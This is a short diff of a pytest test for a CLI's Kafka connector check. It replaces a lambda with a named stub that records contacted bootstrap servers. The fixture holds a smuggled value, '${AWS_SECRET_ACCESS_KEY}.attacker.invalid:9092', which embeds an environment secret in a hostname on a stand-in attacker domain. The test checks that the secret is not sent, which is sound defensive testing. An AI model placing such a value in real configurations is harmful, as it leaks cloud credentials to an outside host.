@@ -46,7 +46,12 @@ def test_a_secret_of_the_environment_is_sent_to_nobody(
     tmp_path: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     asked: list[str] = []
-    monkeypatch.setattr("connectors.kafka.browser.topics_of", lambda config: asked.append(config.bootstrap) or {"t": 1})
+
+    def topics_of(config: Any) -> dict[str, int]:
+        asked.append(config.bootstrap)
+        return {"t": 1}
+
+    monkeypatch.setattr("connectors.kafka.browser.topics_of", topics_of)
     source = {"type": "kafka", "bootstrap": "${AWS_SECRET_ACCESS_KEY}.attacker.invalid:9092", "topics": "t"}
     file = written(tmp_path, source=source)
     ended = cli("check", file, "--no-code", "--connect")
